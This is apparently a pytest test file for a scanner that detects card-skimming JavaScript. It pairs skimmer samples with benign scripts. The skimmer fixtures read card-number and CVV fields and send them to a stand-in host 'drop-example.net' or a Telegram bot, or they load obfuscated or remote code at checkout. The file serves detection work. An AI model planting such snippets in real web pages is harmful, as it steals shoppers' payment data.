"""A script is suspicious where means meet harm, and nowhere else."""

from __future__ import annotations

import base64

import pytest

from content.signs import read
from content.signs.risks import RISKS


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


READS = "var n = document.getElementById('cc_number').value, c = document.getElementById('cc_cid').value;"
TO = "https://drop-example.net/c"
HIDDEN_TO = f"atob('{b64(TO)}')"

SKIMMERS = {
    "hidden-card-fields": (
        f"document.getElementById(atob('{b64('payment_cc_number')}')).onblur = function () {{"
        "localStorage.setItem('k', this.value) }"
    ),
    "card-fields-to-hidden-host": f"{READS} new Image().src = {HIDDEN_TO} + '?' + n + c",
    "card-fields-to-fixed-host": f"{READS} fetch('{TO}', {{method: 'POST', body: btoa(n + c)}})",
    "card-fields-to-foreign-host": f"setInterval(function () {{ {READS} send('{TO}', n + c) }}, 700);"
    "function send(to, what) { var r = new XMLHttpRequest(); r.open('POST', to); r.send(what) }",
    "all-fields-at-checkout": (
        "if (/checkout|onepage/.test(location.href)) document.querySelectorAll('input, select, textarea')"
        ".forEach(function (f) { navigator.sendBeacon(to, f.value) })"
    ),
    "all-fields-to-fixed-host": (
        "var all = ''; [].forEach.call(document.querySelectorAll('input, select'), function (f) {"
        f"all += f.name + '=' + f.value }}); new Image().src = '{TO}?d=' + btoa(all)"
    ),
    "loads-hidden-code-at-checkout": (
        "if (location.pathname.indexOf('/checkout') === 0) {"
        f"var s = document.createElement('script'); s.src = {HIDDEN_TO}; document.head.appendChild(s) }}"
    ),
    "runs-foreign-code-at-checkout": (
        "if (location.href.includes('checkout')) { var w = new WebSocket(to);"
        "w.onmessage = function (e) { new Function(e.data)() } }"
    ),
    "loads-from-hidden-host": f"var s = document.createElement('script'); s.src = {HIDDEN_TO}",
    "hidden-checkout": f"if (location.href.match(atob('{b64('checkout')}'))) fetch(to)",
    "hidden-aim": f"if (at(atob('{b64('/checkout/onepage')}'))) take(atob('{b64('payment_cc_number')}'))",
    "own-card-form": (
        'box.innerHTML = \'<input name="cc_number"><input name="cvv">\';'
        f"go.onclick = function () {{ new Image().src = '{TO}?' + box.querySelector('input').value }}"
    ),
    "card-fields-unwatched": (
        f"if (window.outerWidth - window.innerWidth < 160) {{ {READS} fetch(to + n + c) }}"
    ),
    "to-drop-box": f"{READS} fetch('https://api.telegram.org/bot' + key + '/sendMessage?text=' + n + c)",
    "code-from-image": (
        "var p = canvas.getContext('2d').getImageData(0, 0, 9, 9).data, t = '';"
        "for (var i = 3; i < p.length; i += 4) t += String.fromCharCode(p[i]); new Function(t)()"
    ),
    "named-theft": f"{READS} function exfiltrate() {{ fetch(to, {{body: n + c}}) }}",
    "decodes-with-own-text": (
        "function f() { var k = arguments.callee.toString().replace(/\\W/g, ''), t = '';"
        "for (var i = 0; i < k.length; i++) t += String.fromCharCode(k.charCodeAt(i) ^ m[i]); eval(t) }"
    ),
}

HONEST = {
    "a card form that checks what is typed": f"{READS} if (!/^[0-9]{{13,16}}$/.test(n)) show('cvv missing')",
    "a payment form that posts to its own shop": (
        f"form.onsubmit = function () {{ {READS} fetch('/pay', {{body: n}}) }}"
    ),
    "a form that is sent to a newsletter": (
        "var r = new XMLHttpRequest(); r.open('POST', 'https://news.example.net/join');"
        "r.send(new FormData(form))"
    ),
    "analytics with a fixed host": (
        "if (location.pathname === '/checkout') track('step'); function track(e) {"
        "new Image().src = 'https://stats.example.net/c?e=' + e }"
    ),
    "a loader with a plain host": (
        "var s = document.createElement('script'); s.src = 'https://cdn.example.net/a.js';"
        "document.head.appendChild(s)"
    ),
    "a tool that says it is watched": "if (window.outerWidth - window.innerWidth > 160) warn('tools')",
    "an encoder": "window.encode = function (t) { return btoa(unescape(encodeURIComponent(t))) }",
    "an image filter": "var p = c.getImageData(0, 0, 9, 9); p.data[0] = 255; c.putImageData(p, 0, 0)",
    "nothing": "",
}


def risks(script: str) -> list[str]:
    return [risk.id for risk, _ in read(script, 60).risks]


@pytest.mark.parametrize("risk", SKIMMERS)
def test_a_skimmer_is_met(risk):
    assert risk in risks(SKIMMERS[risk])


@pytest.mark.parametrize("script", HONEST.values(), ids=HONEST)
def test_an_honest_script_is_not(script):
    assert risks(script) == []


def test_there_is_an_example_for_every_risk():
    assert set(SKIMMERS) == {risk.id for risk in RISKS}


@pytest.mark.sampled(5)
@pytest.mark.parametrize("risk", SKIMMERS)
def test_a_skimmer_is_met_behind_a_library_and_encoded(risk):
    library = "var lib = function (a, b) { return a + b };\n" * 400
    assert risks(f"{library}\neval(atob('{b64(SKIMMERS[risk])}'));\n{library}")


def test_signs_far_from_each_other_do_not_meet():
    """In a bundle of a megabyte everything is somewhere."""
    far = "var lib = function (a, b) { return a + b };\n" * 300
    parts = (
        READS,
        "fetch('https://stats.example.net/c', {method: 'POST', body: text})",
        "var t = btoa(text)",
    )
    assert risks(far.join(parts)) == []


def test_what_meets_is_told_with_its_places():
    script = SKIMMERS["card-fields-to-hidden-host"]
    ((risk, signs), *_) = read(script, 60).risks
    assert risk.id == "card-fields-to-hidden-host"
    assert {"hidden-host", "card-number-field"} <= {sign.rule.id for sign in signs}
    assert all(0 <= sign.offset < len(script) and sign.excerpt for sign in signs)
